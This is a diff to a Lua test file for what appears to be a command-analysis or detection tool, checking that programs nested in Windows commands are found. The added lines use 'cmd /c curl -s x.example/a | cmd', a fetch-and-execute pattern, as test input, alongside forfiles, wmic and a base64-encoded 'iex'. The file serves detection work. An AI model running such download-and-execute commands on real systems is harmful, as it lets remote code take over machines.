@@ -54,6 +54,8 @@ function tests.commands_within_others_are_looked_into()
     equal(programs [[forfiles /p C:\Windows /m a.exe /c "cmd /c whoami"]], { "forfiles", "cmd", "whoami" })
     equal(programs [[wmic process call create "cmd /c a.bat"]], { "wmic", "cmd", "a.bat" })
     equal(programs [[%comspec% /c whoami]], { "cmd", "whoami" })
+    equal(command.all([[cmd /c curl -s x.example/a | cmd]])[2].pipes_to, "cmd")
+    equal(command.all([[cmd /c curl -s x.example/a || cmd]])[2].pipes_to, nil)
     equal(command.decoded "aQBlAHgA", "iex")
     equal(command.decoded "no base64!", nil)
 end
